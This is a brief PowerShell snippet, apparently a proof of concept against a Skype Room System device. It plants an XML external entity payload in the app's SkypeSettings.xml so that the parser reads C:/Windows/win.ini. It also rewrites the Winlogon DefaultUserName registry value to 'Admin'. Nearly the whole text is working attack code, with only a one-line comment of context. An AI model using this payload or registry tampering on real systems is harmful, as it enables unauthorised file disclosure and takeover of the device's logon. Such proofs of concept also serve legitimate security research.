# A settings file that would read another file, written by whoever sits in the Room's session.
[System.IO.File]::WriteAllText('C:\Users\Skype\AppData\Local\Packages\Microsoft.SkypeRoomSystem_8wekyb3d8bbwe\LocalState\SkypeSettings.xml', '<!DOCTYPE s [<!ENTITY other SYSTEM "file:///C:/Windows/win.ini">]><SkypeSettings><UserAccount><ModernAuthEnabled>&other;</ModernAuthEnabled></UserAccount></SkypeSettings>')
[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon', 'DefaultUserName', 'Admin')
